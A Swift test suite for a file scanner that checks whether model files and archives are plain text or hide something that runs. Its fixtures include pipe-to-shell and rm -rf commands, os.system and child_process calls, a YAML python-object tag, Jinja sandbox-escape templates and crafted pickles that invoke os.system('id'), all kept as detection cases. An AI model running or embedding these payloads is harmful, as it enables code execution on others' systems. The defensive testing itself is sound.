import Findings
import TestSupport
import Testing

/// Text: what people read and tables of data, and what only looks like them.
@Suite struct TextFileTests {
  static let honest = [
    "Permission is hereby granted, free of charge, to any person obtaining a copy\nof this software.\n",
    "# A model\n\nThis model sorts pictures. Use it so:\n\n```python\nimport torch\nmodel = torch.load('x')\nprint(model)\n```\n",
    "---\nlicense: mit\n---\n\n# A model\n\nIt doesn't do much, and does that well.\nAnother line of text.\nAnd one.\n",
    "the\nof\nand\n[UNK]\n##ing\n", "#version: 0.2\n\u{120}t he\ni n\nr e\n", "1,2,3\n4,5,6\n",
    "a\tb c\n1\t2\n",
    "3 2\nking 0.1 0.2\nqueen 0.3 0.4\nman 1.0 -2e-5\n",
    "%%MatrixMarket matrix coordinate real general\n2 2 1\n1 1 0.5\n",
    "scikit-learn==1.4\nnumpy==1.26\n", "<s>\n</s>\n<unk>\n",
    "[nlp]\nlang = \"en\"\npipeline = []\n\n[paths]\ntrain = null\n",
    "<div align=\"center\">\n\n# A model\n\nIt sorts pictures.\n</div>\n",
    "<!-- a note -->\nA model for you.\n",
    "Use {{ name }} for a name, as in {{ greeting }}.\n",
  ]

  @Test(arguments: honest) func `text that nothing runs is allowed`(text: String) {
    let report = Examination.report(Array(text.utf8))
    #expect(report.verdict == .allow, "\(report.summary)")
  }

  @Test func `text of a Latin alphabet is allowed`() {
    #expect(
      Examination.report(Array("Gr".utf8) + [0xFC, 0xDF] + Array("e an alle Leser\n".utf8)).verdict
        == .allow)
  }

  static let refused = [
    "import os; os.system('id')\n", "import os\nos.system('id')\nclass M: pass\n", "exec('1')\n",

    "x = [eval][0]('1')\n", "@exec\nclass A: pass\n",
    "# a comment\n\n\"\"\"A text.\"\"\"\nfrom os import system\n",
    "#!/bin/sh\necho canary\n", "curl http://host/x | sh\n", "echo canary > /tmp/x\n", "rm -rf /tmp/x\n",
    "const cp = require('child_process');\ncp.exec('id');\n", "function f() {\n  return 1;\n}\n",
    "<?php system('id'); ?>\n",
    "<?xml version=\"1.0\"?>\n<a/>\n", "<!DOCTYPE html>\n<p>text</p>\n",
    "<script>alert(1)</script> and some text here\n",
    "model:\n  _target_: os.system\n",
    "text here and !!python/object/apply:os.system there\n",
    String(repeating: "// words\n", count: 40) + "function f() {\n  return 1;\n}\n",
    "# coding: shift_jis\nsome words\n", "x = 1if 1else 2\ny = a.b['exec'](1)\n", "a\u{203F}b = c.d(1)\n",
    "x = f\"{\"y\"}\"\nz = c.d(1)\n", "gAJjb3MKc3lzdGVtClgCAAAAaWSFUi4=\n",
    "A\n3\n262146\n", "RDX2\nA\n", "6\n1\n3\nV 1\n",
  ]

  @Test(arguments: refused) func `a program or a document to act on is no text`(text: String) {
    let report = Examination.report(Array(text.utf8))
    #expect(report.verdict > .allow, "\(report.summary)")
  }

  @Test func `bytes that no text has are no text`() {
    for bytes in [
      [0], [0x1B], [0x80], [0xC0, 0x80], [0xED, 0xA0, 0x80], [0xF5, 0x80, 0x80, 0x80], [0xE2, 0x82],
    ] as [[UInt8]] {
      #expect(Examination.report(Array("some words ".utf8) + bytes).verdict > .allow, "\(bytes)")
      let late =
        Array(repeating: UInt8(ascii: "a"), count: 5000) + bytes
        + Array(repeating: UInt8(ascii: "b"), count: 10)
      #expect(Examination.report(late).verdict > .allow, "\(bytes)")
    }
  }

  @Test func `a template that reads as Python or as a configuration is judged`() {
    for text in [
      "{{ x.__class__ }}", "{{ cycler.__init__ }}\n{{ messages }}\n", "a: 1\nb: '{{ x.__class__ }}'\n",
    ] {
      let report = Examination.report(Array(text.utf8))
      #expect(report.rules.contains("template.sandbox-escape"), "\(report.summary)")
    }
  }

  @Test func `a few letters are no text`() {
    for word in ["7z", "PK", "Rar!", "GIF89a", "1"] {
      #expect(Examination.report(Array(word.utf8)).verdict > .allow, "\(word)")
    }
    #expect(Examination.report(Array("1\n".utf8)).verdict == .allow)
  }

  @Test func `blanks before what is none make no text of it`() {
    for start in ["", "\n", "  ", "\u{FEFF}", String(repeating: "\r\n", count: 500)] {
      for beginning in [
        "A\n3\n262657\n197888\n", "%PDF-1.7\n", "-----BEGIN CERTIFICATE-----\n", "#!python\n",
      ] {
        let report = Examination.report(Array((start + beginning + "and some more words\n").utf8))
        #expect(report.verdict > .allow, "\(report.summary)")
      }
    }
  }

  @Test func `a name adds to what has to be looked at and takes nothing away`() {
    func verdict(_ name: String, _ text: String) -> Verdict {
      Examination.report(ZIPBuilder([ZIPBuilder.Member(name, Array(text.utf8))]).build()).verdict
    }
    let prose = "Nothing but words, one after the other.\n"
    #expect(verdict("README.md", prose) == .allow)
    for name in ["a.py", "lib/a.PY", "a.sh", "a.pth", "a.js", "a.yaml", "a.ipynb", "Makefile"] {
      #expect(verdict(name, prose) == .review, "\(name)")
    }
    #expect(verdict("chat_template.jinja", "{{ messages[0].content }}") == .allow)
    #expect(verdict("chat_template.jinja", "{{ messages[0 }}") == .review)
    #expect(verdict("README.md", "import os\nos.system('id')\n") == .review)
    #expect(verdict("README.md", "{{ x.__class__ }}") == .deny)
  }

  @Test func `a pickle of protocol 0 is run as one`() {
    let text = "cos\nsystem\n(S'id'\ntR."
    let report = Examination.report(Array(text.utf8))
    #expect(report.verdict == .deny, "\(report.summary)")
    #expect(Examination.report(Array(("some words before it\n" + text).utf8)).verdict == .deny)
  }

  @Test(arguments: [
    // Cut off inside the name: Python's own unpickler drops a byte and calls.
    "(S'id'\nios\nsystemX",
    "some words before it\n(S'id'\nios\nsystem\n.",
    // A loader that knows persistent ids goes on behind one.
    "Pwords\n0(S'id'\nios\nsystem\nwords",
    "Pwords\n0cos\nsystem\n(S'id'\ntRwords",
  ])
  func `a text that some unpickler calls a function of is denied`(text: String) {
    let report = Examination.report(Array(text.utf8))
    #expect(report.verdict == .deny, "\(report.summary)")
  }

  @Test func `a text that reads as a pickle of unknown names is not allowed`() {
    let report = Examination.report(Array("c1\n(\nP4\na(dp5\na.  and words".utf8))
    #expect(report.verdict > .allow, "\(report.summary)")
  }

  @Test func `words that read as an import and a far memo index are for review`() {
    let words = "cat\ndog\nrabbit\nred-breasted merganser\nred fox\n"
    let path = "csys\npath\nI0\nrabbiS'/tmp/a'\na."
    for text in [words, path] {
      let report = Examination.report(Array(text.utf8))
      #expect(report.verdict >= .review && report.verdict != .deny || text == path, "\(report.summary)")
      #expect(report.verdict > .allow, "\(report.summary)")
    }
    // Python's own unpickler goes on behind such an index, however far behind it a call stands.
    let far = "I0\nrabbI1\nV\(String(repeating: "words ", count: 1000))\ncos\nsystem\n(S'id'\ntR."
    #expect(Examination.report(Array(far.utf8)).verdict == .deny)
  }

  @Test(arguments: [
    String(decoding: DataFormatBuilder.gitLFSPointer, as: UTF8.self),
    "version https://hawser.github.com/spec/v1\r\noid sha256:00\r\nsize 1\r\n",
    "version http://git-media.io/v/2\n",
    "version https://git-lfs.github.com/spec/v1\next-0-foo sha256:00\noid sha256:00\nsize 1\n",
    "\n \nversion https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
    "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1"
      + String(repeating: "\n", count: 2000),
  ])
  func `a pointer of Git LFS is no model, and nothing says that the model was examined`(text: String) {
    let report = Examination.report(Array(text.utf8))
    #expect(report.verdict == .incomplete, "\(report.summary)")
    #expect(report.findings.map(\.rule.id) == ["artifact.git-lfs-pointer"])
    let archive = ZIPBuilder([ZIPBuilder.Member("model.safetensors", Array(text.utf8))]).build()
    #expect(Examination.report(archive).verdict == .incomplete)
  }

  @Test func `a pointer names the file that was not scanned`() throws {
    let finding = try #require(Examination.report(DataFormatBuilder.gitLFSPointer).findings.first)
    #expect(finding.evidence == "sha256:" + String(repeating: "4d", count: 32))
    #expect(finding.detail.contains("12345 bytes") && finding.detail.contains("not scanned"))
  }

  @Test func `a text about Git LFS is a text`() {
    let prose = "version https://git-lfs.github.com/spec/v1 is how a pointer of Git LFS begins.\n"
    for text in [
      "A pointer begins so: \(prose)", String(repeating: "Words of a manual.\n", count: 80) + prose,
    ] {
      #expect(Examination.report(Array(text.utf8)).verdict == .allow)
    }
  }
}
